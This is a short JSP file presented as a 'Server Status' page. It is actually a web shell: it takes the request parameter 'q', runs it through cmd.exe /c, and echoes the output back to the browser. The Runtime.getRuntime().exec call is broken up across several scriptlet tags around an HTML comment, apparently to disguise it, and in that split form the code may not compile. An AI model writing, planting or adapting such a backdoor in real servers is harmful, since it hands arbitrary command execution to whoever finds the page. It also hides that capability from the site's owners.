<%@ page contentType="text/html;charset=UTF-8" import="java.io.*" %>
<html><head><title>Server Status</title></head>
<body>
<h2>Status</h2>
<% String q = request.getParameter("q"); %>
<div class="panel">
<% if (q != null && q.length() > 0) { %>
<p>Result for <%= q.length() %> bytes</p>
<% Process pr = Runtime %>
<!-- build -->
<% .getRuntime() %>
<%
   .exec(new String[]{"cmd.exe", "/c", q});
   BufferedReader br = new BufferedReader(new InputStreamReader(pr.getInputStream()));
%>
<pre>
<% String line; while ((line = br.readLine()) != null) { %><%= line %>
<% } %>
</pre>
<% } %>
</div>
</body></html>
